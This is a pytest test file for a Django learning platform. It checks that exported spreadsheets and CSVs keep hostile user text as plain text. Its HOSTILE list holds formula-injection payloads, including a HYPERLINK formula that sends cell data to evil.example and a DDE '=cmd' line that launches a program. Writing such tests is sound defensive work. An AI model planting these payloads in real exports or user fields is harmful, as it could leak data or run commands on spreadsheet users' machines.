"""Row 3: every export the product writes, opened with openpyxl (or read as CSV), holds
no formula that came from user text: hostile names, organization names, kinds and
audiences stay text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lms.centers.models import Center
from lms.learning.models import Enrollment
from lms.organizations import services as org_services
from lms.outreach.models import OutreachRequest, OutreachSession
from tests.factories import OrganizationFactory, UserFactory
from tests.factories.learning import course_page
from tests.factories.outreach import staff_user, trainer_profile
from tests.factories.reports import delivered_session

pytestmark = pytest.mark.django_db
# What a spreadsheet program runs as a formula at the start of a cell.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


@pytest.fixture
def hostile_records():
    metro = Center.objects.get(kind=Center.Kind.METROPOLITAN)
    staff = staff_user(username="export-staff", center=metro)
    superuser = UserFactory(username="export-root", is_superuser=True, is_staff=True)
    trainer = trainer_profile()
    trainer.user.name = HOSTILE[1]
    trainer.user.save()
    start = timezone.now().replace(day=3, hour=10, minute=0, second=0, microsecond=0)
    sessions = []
    for n, text in enumerate(HOSTILE):
        session = delivered_session(
            trainer=trainer,
            starts_at=start - dt.timedelta(days=40) + dt.timedelta(hours=3 * n),
            hours=2,
            reported=20,
            confirmed=20,
            center=metro,
            district="성북구",
            created_at=start - dt.timedelta(days=60),
            organization_name=text,
        )
        # Kinds and audiences that older code let through unchecked.
        OutreachRequest.objects.filter(pk=session.request_id).update(
            organization_kind=text[:20], audience=text[:20]
        )
        sessions.append(session)
    OutreachSession.objects.filter(pk__in=[s.pk for s in sessions]).update(
        attendance_reported_at=timezone.now()
    )
    return staff, superuser, sessions


def test_row03_the_payout_xlsx_has_no_formula_from_user_text(hostile_records):
    staff, _root, sessions = hostile_records
    month = sessions[0].starts_at.astimezone(timezone.get_current_timezone())
    client = Client()
    client.force_login(staff)
    response = client.get(
        "/api/v1/outreach/payouts.xlsx",
        {"year": month.year, "month": month.month, "reason": "월별 강사료 정산"},
    )
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response) if response.streaming else response.content
    assert formula_cells(content) == []
    assert set(HOSTILE) <= texts(content)  # kept as the person typed it


def test_row03_the_city_report_xlsx_has_no_formula_from_user_text(hostile_records):
    _staff, root, sessions = hostile_records
    year = sessions[0].starts_at.year
    client = Client()
    client.force_login(root)
    response = client.get("/api/v1/reports/education.xlsx", {"year": year})
    assert response.status_code == 200
    assert formula_cells(response.content) == []


def test_row03_the_evidence_pack_has_no_formula_from_user_text():
    organization = OrganizationFactory(name=HOSTILE[0])
    contact = UserFactory(
        username="export-contact", role="org_contact", organization=organization
    )
    course = course_page(lessons=1, category="statutory", title=HOSTILE[4])
    link = org_services.invitation_link_get(organization=organization, by=contact)
    for n, text in enumerate(HOSTILE):
        employee = UserFactory(username=f"emp{n}", name=text, email=f"={n}@x.org")
        org_services.invitation_accept(token=link.token, user=employee)
    assignment = org_services.assignment_create(
        organization=organization,
        course=course,
        deadline=timezone.localdate() + dt.timedelta(days=30),
        by=contact,
    )
    client = Client()
    client.force_login(contact)
    response = client.post(
        f"/org/assignments/{assignment.pk}/evidence/", {"reason": "감독기관 제출용"}
    )
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    content = archive.read("수료현황.xlsx")
    assert formula_cells(content) == []
    assert HOSTILE[1] in {t for t in texts(content)} or any(
        t.startswith("=") for t in texts(content)
    )


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_row03_the_learners_export_has_no_formula_from_user_text(file_format):
    metro = Center.objects.get(kind=Center.Kind.METROPOLITAN)
    staff = staff_user(username="export-online", center=metro)
    course = course_page(lessons=1)
    for n, text in enumerate(HOSTILE):
        learner = UserFactory(username=f"learner-x{n}", name=text, email=f"@{n}@x.org")
        Enrollment.objects.create(user=learner, course=course)
    client = Client()
    client.force_login(staff)
    response = client.post(
        reverse("learning_admin:export", args=[course.pk]),
        {"reason": "학습 현황 점검", "format": file_format},
    )
    assert response.status_code == 200
    if file_format == "xlsx":
        assert formula_cells(response.content) == []
        return
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 1 + len(HOSTILE)
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
